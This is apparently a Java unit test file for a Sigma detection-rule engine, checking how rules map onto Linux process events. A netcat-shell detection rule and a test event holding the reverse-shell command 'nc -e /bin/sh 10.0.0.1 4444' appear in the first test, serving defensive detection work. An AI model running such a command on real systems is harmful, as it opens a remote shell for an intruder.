package dev.kiroku.detect.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class FieldMappingTest {
    static Map<String, Object> processStart(String exe, String commandLine) {
        Map<String, Object> e = new HashMap<>();
        e.put("host.os.type", "linux");
        e.put("event.category", List.of("process"));
        e.put("event.type", List.of("start"));
        e.put("event.action", "exec");
        e.put("process.executable", exe);
        e.put("process.command_line", commandLine);
        e.put("process.args", List.of(commandLine.split(" ")));
        e.put("user.name", "bob");
        return e;
    }

    static final String NC_RULE = """
        title: Netcat shell
        id: 00000000-0000-0000-0000-0000000000aa
        logsource: {product: linux, category: process_creation}
        detection:
            sel:
                Image|endswith: '/nc'
                CommandLine|contains: ' -e '
            condition: sel
        """;

    @Test
    void sigma_fields_are_mapped_to_kiroku_ecs_events_of_the_right_kind() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of("r.yml", NC_RULE), LoadOptions.defaults()).rules();
        Matcher m = Matcher.compiled(rules, FieldMapping.kiroku());
        Matcher oracle = Matcher.oracle(rules, FieldMapping.kiroku());
        Document hit = new MapDocument(processStart("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444"));
        assertThat(m.match(hit)).hasSize(1).isEqualTo(oracle.match(hit));
        Map<String, Object> exit = processStart("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
        exit.put("event.type", List.of("end"));
        assertThat(m.match(new MapDocument(exit))).isEmpty();
        assertThat(m.match(new MapDocument(processStart("/usr/bin/nc", "nc -l 4444")))).isEmpty();
    }

    @Test
    void rules_with_fields_the_events_do_not_have_are_reported_not_bound() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of("r.yml", """
            title: Hash
            logsource: {product: linux, category: process_creation}
            detection:
                sel: {Imphash: abc}
                condition: sel
            """), LoadOptions.defaults()).rules();
        FieldMapping.Binding b = FieldMapping.kiroku().bind(rules.rules());
        assertThat(b.skipped()).hasSize(1);
        assertThat(b.skipped().values().iterator().next()).contains("Imphash");
    }

    @Test
    void the_mapping_file_rejects_bad_content_with_lines() {
        assertThatThrownBy(() -> FieldMapping.parse("targets:\n  - name: a\n    fields: {X: [1]}\n", "m.yml"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("m.yml:2");
    }

    @Test
    void most_sigmahq_linux_process_creation_rules_bind_to_kiroku_events() {
        Path dir = CompatibilityTest.sigma().resolve("rules/linux/process_creation");
        RuleSet rules = SigmaLoader.load(List.of(dir), LoadOptions.defaults()).rules();
        FieldMapping.Binding b = FieldMapping.kiroku().bind(rules.rules());
        long bound = rules.rules().size() - b.skipped().size();
        System.out.printf("linux process_creation: %d of %d rules bound to Kiroku events%n", bound, rules.rules().size());
        b.skipped().forEach((k, v) -> System.out.println("  not bound " + k + ": " + v));
        assertThat(bound * 100).isGreaterThanOrEqualTo(rules.rules().size() * 90L);
        assertThat(Files.isDirectory(dir)).isTrue();
    }
}
